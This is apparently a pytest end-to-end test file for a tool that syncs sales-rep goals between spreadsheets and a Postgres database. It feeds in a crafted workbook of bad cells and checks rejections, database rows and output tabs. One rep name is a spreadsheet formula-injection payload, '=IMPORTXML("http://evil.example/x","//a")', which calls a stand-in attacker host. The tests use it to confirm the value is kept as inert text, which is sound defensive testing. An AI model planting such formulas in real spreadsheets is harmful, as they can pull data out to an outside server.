"""End to end through the command line on a crafted workbook: database rows and output tabs.

The workbook has clean rows, bad cells, a duplicate key, an unknown rep, a blank
cell over a stored value, a goal set after the deadline and a rep whose name
starts with ``=``. Every run is a fresh ``python -m sync`` process, as cron runs it.
"""

from __future__ import annotations

import copy
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import create_engine, text

from tests.cycle.conftest import run_cli
from tests.sheets_api.server import FakeSheetsServer

REPS = [
    ["Email", "Name", "Team", "Title", "Active", "Monthly Signup Goal", "Yearly Signup Goal"],
    ["alice@example.com", "Alice Able", "East", "AE", True, 15, 180],
    ["bob@example.com", "Bob Baker", "East", "AE", True, 12, 150],
    ["carol@example.com", "Carol Chen", "West", "SDR", True, 10, 120],
    ["  EVE@Example.com ", '=IMPORTXML("http://evil.example/x","//a")', "West", "AE", "yes", 8, 96],
]
MONTHLY = [
    ["Email", "Year", "Month", "Signup Goal", "Revenue Goal", "Bonus Tier Goal", "Notes"],
    ["alice@example.com", 2026, "Nov", 15, 30000, 3, "stretch goal"],
    ["bob@example.com", 2026, 11, "twelve", 20000, None],
    ["carol@example.com", 2026, 11, 10, 5000, 1],
    ["carol@example.com", 2026, 11, 11, 5000, 1],
    ["zed@example.com", 2026, 11, 10, 1000],
    ["eve@example.com", 2026, 11, 8, 0],
]
YEARLY = [
    ["Email", "Year", "Signup Goal", "Revenue Goal"],
    ["alice@example.com", 2026, 180, 360000],
]
ACTUALS = [
    ["Email", "Year", "Month", "Signups", "Revenue"],
    ["alice@example.com", 2026, 11, 12, 24000.5],
    ["bob@example.com", 2026, 11, -3, "1,000"],
    ["eve@example.com", 2026, 11, 8, "$150.25"],
    ["carol@example.com", 2026, 11, "#REF!", 2500],
]


def workbook() -> dict[str, list[list[Any]]]:
    """A deep copy of the crafted input tabs."""
    return copy.deepcopy({"Reps": REPS, "Monthly Goals": MONTHLY, "Yearly Goals": YEARLY, "Actuals": ACTUALS})


def monthly_rows(url: str) -> dict[str, dict[str, Any]]:
    """rep email → its November 2026 rep_monthly_goals row."""
    engine = create_engine(url.replace("postgresql://", "postgresql+psycopg://", 1))
    with engine.connect() as connection:
        rows = connection.execute(text("""
            SELECT r.email, g.* FROM rep_monthly_goals g JOIN sales_reps r ON r.id = g.sales_rep_id
            WHERE g.goal_year = 2026 AND g.goal_month = 11
        """)).mappings().all()
    engine.dispose()
    return {row["email"]: dict(row) for row in rows}


def query(url: str, sql: str) -> list[Any]:
    engine = create_engine(url.replace("postgresql://", "postgresql+psycopg://", 1))
    with engine.connect() as connection:
        rows = connection.execute(text(sql)).all()
    engine.dispose()
    return [tuple(row) for row in rows]


class Spreadsheet:
    """The crafted spreadsheet on one backend: put input tabs, read output tabs, count writes."""

    def __init__(self, backend: str, tmp_path: Path, server: FakeSheetsServer) -> None:
        self.backend, self.server, self.path = backend, server, tmp_path / "goals.xlsx"
        if backend == "google":
            server.create_spreadsheet("crafted-sheet", {})

    def config(self) -> dict[str, Any]:
        if self.backend == "xlsx":
            return {"backend": "xlsx", "xlsx_path": str(self.path)}
        return {"backend": "google", "spreadsheet_id": "crafted-sheet", "api_endpoint": self.server.url,
                "retry": {"timeout_seconds": 5, "max_attempts": 2, "max_total_seconds": 10}}

    def put(self, tabs: dict[str, list[list[Any]]]) -> None:
        if self.backend == "xlsx":
            from sheets.xlsx import create_workbook

            create_workbook(self.path, tabs)
            return
        for title, grid in tabs.items():  # a tab is replaced whole, as if rows had been deleted
            if title in self.server.tab_titles("crafted-sheet"):
                self.server.delete_tab("crafted-sheet", title)
            self.server.add_tab("crafted-sheet", title, grid)

    def output(self, tab: str) -> list[list[Any]]:
        """An output tab as read back (trailing blanks trimmed)."""
        if self.backend == "xlsx":
            from sheets.xlsx import XlsxBackend

            grid = XlsxBackend(self.path).read_tabs([tab])[tab]
        else:
            grid = self.server.get_values("crafted-sheet", tab) if tab in self.server.tab_titles(
                "crafted-sheet") else None
        assert grid is not None, f"tab {tab} was not written"
        return grid

    def write_marker(self) -> object:
        """Something that changes whenever the output is written."""
        if self.backend == "xlsx":
            return self.path.read_bytes()
        return self.server.count("values.batchUpdate") + self.server.count("spreadsheets.batchUpdate")


def by_rep(summary: list[list[Any]]) -> dict[str, dict[str, Any]]:
    """Summary rows by email, header → value; an empty cell is None whichever way it reads back."""
    header = summary[0][:26]
    return {row[1]: {h: (None if v == "" else v) for h, v in zip(header, row[:26] + [None] * (26 - len(row)),
                                                                   strict=True)}
            for row in summary[1:] if len(row) > 1 and row[1]}


@pytest.fixture(params=["xlsx", "google"])
def sheet(request: pytest.FixtureRequest, tmp_path: Path, sheets_server: FakeSheetsServer) -> Spreadsheet:
    return Spreadsheet(request.param, tmp_path, sheets_server)


@pytest.fixture
def setup(fresh_db_url: str, write_config, sheet: Spreadsheet) -> tuple[Path, Spreadsheet, str]:
    config = write_config(fresh_db_url, sheets=sheet.config())
    sheet.put(workbook())
    return config, sheet, fresh_db_url


def test_first_cycle_stores_good_rows_and_reports_every_bad_cell(setup: tuple[Path, Spreadsheet, str]) -> None:
    config, book, url = setup
    result = run_cli("run", "--once", "--now", "2026-11-03T09:00", config=config)
    assert result.returncode == 3, result.stderr  # done, but some input was rejected

    errors = book.output("Sync Errors")
    assert errors[0] == ["Tab", "Cell", "Email", "Value", "Problem"]
    reported = {(row[0], row[1], row[2], str(row[3])) for row in errors[1:]}
    assert reported == {
        ("Monthly Goals", "Monthly Goals!D3", "bob@example.com", "twelve"),
        ("Monthly Goals", "Monthly Goals!A4", "carol@example.com", "carol@example.com"),  # rows 4 and 5
        ("Monthly Goals", "Monthly Goals!A6", "zed@example.com", "zed@example.com"),
        ("Actuals", "Actuals!D3", "bob@example.com", "-3"),
        ("Actuals", "Actuals!D5", "carol@example.com", "#REF!"),
    }
    assert all(row[4] for row in errors[1:]), "every problem says what is wrong"

    rows = monthly_rows(url)
    assert set(rows) == {"alice@example.com", "bob@example.com", "carol@example.com", "eve@example.com"}
    alice = rows["alice@example.com"]
    assert (alice["signup_goal"], alice["revenue_goal"], alice["bonus_tier_goal"]) == (15, Decimal("30000.00"), 3)
    assert (alice["signups_actual"], alice["revenue_actual"]) == (Decimal("12.0"), Decimal("24000.50"))
    assert (alice["signup_progress_percent"], alice["revenue_progress_percent"]) == (Decimal("80.00"),
                                                                                     Decimal("80.00"))
    assert (alice["bonus_tier_actual"], alice["bonus_amount"], alice["bonus_triggered"]) == (2, Decimal("250.00"),
                                                                                             False)
    assert alice["goal_set_at"] == datetime(2026, 11, 3, 9, tzinfo=UTC)
    assert alice["set_by_deadline"] is True
    assert alice["deadline"] == datetime(2026, 11, 7, tzinfo=UTC)
    assert alice["status"] == "active"

    bob = rows["bob@example.com"]  # "twelve" rejected: the rep's default goal stays; -3 rejected: 0 stays
    assert (bob["signup_goal"], bob["revenue_goal"]) == (12, Decimal("20000.00"))
    assert (bob["signups_actual"], bob["revenue_actual"]) == (Decimal("0.0"), Decimal("1000.00"))
    assert bob["revenue_progress_percent"] == Decimal("5.00")

    carol = rows["carol@example.com"]  # both duplicate rows rejected: only the default row
    assert (carol["signup_goal"], carol["revenue_goal"], carol["goal_set_at"]) == (10, None, None)
    assert carol["revenue_actual"] == Decimal("2500.00")

    eve = rows["eve@example.com"]  # revenue goal 0: no revenue %, does not block completion
    assert eve["revenue_progress_percent"] is None
    assert (eve["status"], eve["completed_at"]) == ("completed", datetime(2026, 11, 3, 9, tzinfo=UTC))
    assert query(url, "SELECT name FROM sales_reps WHERE email = 'eve@example.com'") == [
        ('=IMPORTXML("http://evil.example/x","//a")',)
    ]
    assert query(url, "SELECT count(*) FROM sales_reps WHERE email = 'zed@example.com'") == [(0,)]

    summary = book.output("Summary")
    assert summary[0][:26] == [
        "Rep", "Email", "Team", "Signups", "Signup Goal", "Signup %", "Revenue", "Revenue Goal", "Revenue %",
        "Expected %", "Pace", "Bonus Tier", "Bonus Tier Goal", "Bonus", "Goal Status", "Days Left", "Needed/Day",
        "YTD Signups", "Yearly Signup Goal", "YTD Signup %", "YTD Revenue", "Yearly Revenue Goal", "YTD Revenue %",
        "Yearly Pace", "Streak", "Trend",
    ]
    assert [row[0] for row in summary[1:5]] == ["Alice Able", "Bob Baker",  # team, then name
                                                 '=IMPORTXML("http://evil.example/x","//a")', "Carol Chen"]
    reps = by_rep(summary)
    assert reps["alice@example.com"] == {
        "Rep": "Alice Able", "Email": "alice@example.com", "Team": "East", "Signups": 12, "Signup Goal": 15,
        "Signup %": 0.8, "Revenue": 24000.5, "Revenue Goal": 30000, "Revenue %": 0.8, "Expected %": 0.1,
        "Pace": "Ahead", "Bonus Tier": "Silver", "Bonus Tier Goal": "Gold", "Bonus": 0,  # Silver < Gold: unpaid
        "Goal Status": "complete", "Days Left": 27,
        "Needed/Day": 0.11, "YTD Signups": 12, "Yearly Signup Goal": 180, "YTD Signup %": 0.0666,  # 6.666…%, cut
        "YTD Revenue": 24000.5, "Yearly Revenue Goal": 360000, "YTD Revenue %": 0.0666,
        "Yearly Pace": "Behind Pace", "Streak": 0, "Trend": None,
    }
    assert reps["carol@example.com"]["Goal Status"] == "pending"
    assert reps["eve@example.com"]["Needed/Day"] is None  # met: blank
    assert reps["eve@example.com"]["Streak"] == 1
    side = {row[27]: row[28] for row in summary[:4] if len(row) > 28}
    assert side["Last change synced"] == "2026-11-03 09:00 UTC"
    assert side["Rows read"] == 15
    assert str(side["Problems"]).startswith("5")

    leaderboard = book.output("Leaderboard")
    assert leaderboard[0][:3] == ["Rank", "Rep", "Team"]
    assert [row[0] for row in leaderboard[1:]] == [1, 2, 3, 4]
    assert leaderboard[1][1] == '=IMPORTXML("http://evil.example/x","//a")'  # 100 % signups leads


def test_unchanged_sheet_writes_nothing_and_changes_no_row(setup: tuple[Path, Spreadsheet, str]) -> None:
    config, book, url = setup
    assert run_cli("run", "--once", "--now", "2026-11-03T09:00", config=config).returncode == 3
    before_bytes = book.write_marker()
    before = query(url, "SELECT max(updated_at), count(*) FROM rep_monthly_goals")
    reps_before = query(url, "SELECT max(updated_at) FROM sales_reps")

    again = run_cli("run", "--once", "--now", "2026-11-03T09:05", config=config)
    assert again.returncode == 3
    assert book.write_marker() == before_bytes, "the output was rewritten although nothing changed"
    assert query(url, "SELECT max(updated_at), count(*) FROM rep_monthly_goals") == before
    assert query(url, "SELECT max(updated_at) FROM sales_reps") == reps_before
    log = query(url, "SELECT status, api_writes, rows_upserted FROM sheets_sync_log ORDER BY id")
    assert log[0][0] == "partial" and log[0][1] >= 1
    assert log[1] == ("partial", 0, 0)


def test_blank_keeps_stored_value_and_late_goal_is_overdue(setup: tuple[Path, Spreadsheet, str]) -> None:
    config, book, url = setup
    assert run_cli("run", "--once", "--now", "2026-11-03T09:00", config=config).returncode == 3

    tabs = workbook()
    tabs["Actuals"][1] = ["alice@example.com", 2026, 11, 15, None]  # revenue blanked: keep 24000.50
    del tabs["Monthly Goals"][4]  # carol's duplicate removed: her goal is now set, after the deadline
    book.put(tabs)
    result = run_cli("run", "--once", "--now", "2026-11-09T10:00", config=config)
    assert result.returncode == 3, result.stderr  # bob's bad cells are still there

    rows = monthly_rows(url)
    assert (rows["alice@example.com"]["signups_actual"], rows["alice@example.com"]["revenue_actual"]) == (
        Decimal("15.0"), Decimal("24000.50"))
    carol = rows["carol@example.com"]
    assert (carol["signup_goal"], carol["revenue_goal"]) == (10, Decimal("5000.00"))
    assert carol["goal_set_at"] == datetime(2026, 11, 9, 10, tzinfo=UTC)
    assert carol["set_by_deadline"] is False
    reps = by_rep(book.output("Summary"))
    assert reps["carol@example.com"]["Goal Status"] == "overdue"
    assert reps["alice@example.com"]["Goal Status"] == "complete"
    assert reps["alice@example.com"]["Bonus Tier"] == "Gold"
    errors = book.output("Sync Errors")
    assert {row[1] for row in errors[1:]} == {"Monthly Goals!D3", "Monthly Goals!A5", "Actuals!D3",
                                              "Actuals!D5"}


def test_lock_after_deadline_refuses_edits_and_keeps_the_goal(fresh_db_url: str, write_config,
                                                             sheet: Spreadsheet) -> None:
    config = write_config(fresh_db_url, goals={"lock_after_deadline": True}, sheets=sheet.config())
    book = sheet
    book.put(workbook())
    assert run_cli("run", "--once", "--now", "2026-11-03T09:00", config=config).returncode == 3

    tabs = workbook()
    tabs["Monthly Goals"][1] = ["alice@example.com", 2026, 11, 9, 30000, 3]
    book.put(tabs)
    assert run_cli("run", "--once", "--now", "2026-11-08T09:00", config=config).returncode == 3
    assert monthly_rows(fresh_db_url)["alice@example.com"]["signup_goal"] == 15
    locked = [row for row in book.output("Sync Errors")[1:] if row[1] == "Monthly Goals!D2"]
    assert len(locked) == 1 and "locked" in locked[0][4]


def test_dry_run_writes_nothing_anywhere(setup: tuple[Path, Spreadsheet, str]) -> None:
    config, book, url = setup
    before = book.write_marker()
    result = run_cli("run", "--once", "--dry-run", "--now", "2026-11-03T09:00", config=config)
    assert result.returncode == 3
    assert "Summary: would be rewritten" in result.stdout
    assert "nothing was written" in result.stdout
    assert book.write_marker() == before
    assert query(url, "SELECT count(*) FROM sales_reps") == [(0,)]
    assert query(url, "SELECT count(*) FROM sheets_sync_log") == [(0,)]


def test_second_cycle_while_one_holds_the_lock_exits_75(setup: tuple[Path, Spreadsheet, str]) -> None:
    import psycopg

    from models.locks import CYCLE_LOCK_KEY

    config, _book, url = setup
    with psycopg.connect(url.replace("postgresql+psycopg://", "postgresql://", 1)) as holder:
        holder.execute("SELECT pg_advisory_lock(%s)", (CYCLE_LOCK_KEY,))
        result = run_cli("run", "--once", "--now", "2026-11-03T09:00", config=config)
    assert result.returncode == 75
    assert "another sync cycle is running" in result.stdout + result.stderr
    assert query(url, "SELECT count(*) FROM sales_reps") == [(0,)]


@pytest.mark.process
def test_bad_config_exits_2_naming_the_key(tmp_path: Path) -> None:
    config = tmp_path / "config.yaml"
    config.write_text("timezone: UTC\ngoals:\n  deadline_dya: 6\n", encoding="utf-8")
    result = run_cli("run", "--once", config=config)
    assert result.returncode == 2
    assert f"{config}: goals.deadline_dya: unknown key" in result.stderr
    missing = run_cli("status", config=tmp_path / "nope.yaml")
    assert missing.returncode == 2 and "config file not found" in missing.stderr
